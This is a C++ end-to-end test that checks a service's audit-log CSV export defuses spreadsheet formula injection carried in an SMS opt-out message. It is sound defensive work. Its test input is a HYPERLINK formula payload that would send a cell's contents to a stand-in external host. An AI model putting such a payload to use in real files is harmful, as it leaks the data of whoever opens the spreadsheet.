// The audit trail as CSV (GET /v1/audit?format=csv): a family's own words land in it (the
// raw text of a contained opt-out), and a spreadsheet that opens the export must show them,
// never run them as a formula.
#include <gtest/gtest.h>

#include <string>

#include "tests/e2e/e2e_fixture.hpp"

namespace optgate::testing {
namespace {

class AuditExport : public e2e_test {};

TEST_F(AuditExport, AContainedOptOutThatReadsAsAFormulaIsNeutralisedInTheCsv) {
    const auto daemon = start_daemon();
    const std::string body = R"sms(+1+HYPERLINK("https://x/?"&A2,"stop"))sms";
    ASSERT_EQ(send_sms(*daemon, "+16515550100", district_code, body, message_sid(1)).body,
              twiml_message(opt_out_reply));
    ASSERT_EQ(text_of(check_one(*daemon, "+16515550100"), "reason"), "opted_out");

    const auto csv = daemon->request(api_call("GET", "/v1/audit?format=csv", test_api_key));
    ASSERT_EQ(csv.status, 200) << csv.body;
    // Quoted, inner quotes doubled, and a single quote first: text to a spreadsheet.
    const std::string neutralised = R"csv(,"'+1+HYPERLINK(""https://x/?""&A2,""stop"")",)csv";
    EXPECT_NE(csv.body.find(neutralised), std::string::npos) << csv.body;
    EXPECT_EQ(csv.body.find(R"csv("+1+HYPERLINK)csv"), std::string::npos) << csv.body;
    // The address, an E.164 number, is kept as it is.
    EXPECT_NE(csv.body.find("\r\n\"+16515550100\",\"sms\",\"district\","), std::string::npos)
        << csv.body;
}

}  // namespace
}  // namespace optgate::testing
